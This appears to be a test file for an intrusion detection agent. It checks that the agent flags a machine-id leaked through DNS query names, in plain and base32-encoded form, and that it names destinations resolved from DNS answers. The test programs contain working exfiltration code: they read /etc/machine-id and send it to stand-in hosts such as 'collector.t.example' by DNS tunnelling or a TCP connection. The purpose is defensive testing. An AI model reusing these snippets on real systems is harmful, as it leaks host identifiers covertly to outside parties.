# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""DNS: identifiers in query names are found; host names learnt from answers name destinations."""
from idslib import Agent, POLICY_MACHINE_ID, expect, expect_eq, machine_id, run_py

QUERY = """
import socket, struct, sys

def query(name):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\\x00" + struct.pack(">HH", 1, 1)

def resolve(server, name):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.connect((server, 53))
    s.send(query(name))
    answer = s.recv(512)
    return socket.inet_ntoa(answer[-4:])
"""


def test_machine_id_in_query_name_is_confirmed(host):
    code = QUERY + """
mid = open("/etc/machine-id").read().strip()
resolve(sys.argv[1], mid[:16] + "." + mid[16:] + ".t.example")
"""
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        pid, _ = run_py(code, host.addr)
        a = agent.wait_alert(process__pid=pid)
    expect_eq("confirmed", a["confidence"], "confidence")
    expect_eq("dns", a["evidence"]["channel"], "evidence.channel")
    expect_eq("plain", a["evidence"]["encoding"], "evidence.encoding")
    expect_eq({"proto": "udp", "port": 53, "addr": host.addr},
              {k: a["destination"][k] for k in ("proto", "port", "addr")}, "destination")
    expect(machine_id()[:16] in host.quiet_received(), "the query to reach the test host")


def test_base32_labels_are_confirmed(host):
    code = QUERY + """
import base64
mid = open("/etc/machine-id").read().strip()
label = base64.b32encode(bytes.fromhex(mid)).decode().rstrip("=").lower()
resolve(sys.argv[1], label + ".t.example")
"""
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        pid, _ = run_py(code, host.addr)
        a = agent.wait_alert(process__pid=pid)
    expect_eq("dns", a["evidence"]["channel"], "evidence.channel")
    expect_eq("base32", a["evidence"]["encoding"], "evidence.encoding")


# After the resolver (code defining `resolve`), the client sends the machine-id to what `name`
# resolved to.
SEND_TO_RESOLVED = """
mid = open("/etc/machine-id").read().strip()
s = socket.create_connection((resolve(sys.argv[1], sys.argv[2]), 9000), timeout=5)
s.sendall(mid.encode())
"""


def alert_for_send_to_resolved(host, resolver, name):
    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
        pid, _ = run_py(resolver + SEND_TO_RESOLVED, host.addr, name)
        return agent.wait_alert(process__pid=pid, destination__port=9000)


def test_destination_host_comes_from_the_answer(host):
    a = alert_for_send_to_resolved(host, QUERY, "collector.t.example")
    expect_eq("collector.t.example", a["destination"]["host"], "destination.host")
    expect_eq("socket", a["evidence"]["channel"], "evidence.channel")


def test_destination_host_comes_from_an_answer_read_with_read(host):
    """The answer read with read(2), not recv: any receive call names the host."""
    resolver = QUERY + """
import os, select
def resolve(server, name):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((server, 53))
    s.send(query(name))
    if not select.select([s], [], [], 5)[0]:
        sys.exit("no answer")
    answer = os.read(s.fileno(), 512)
    return socket.inet_ntoa(answer[-4:])
"""
    a = alert_for_send_to_resolved(host, resolver, "reader.t.example")
    expect_eq("reader.t.example", a["destination"]["host"], "destination.host")
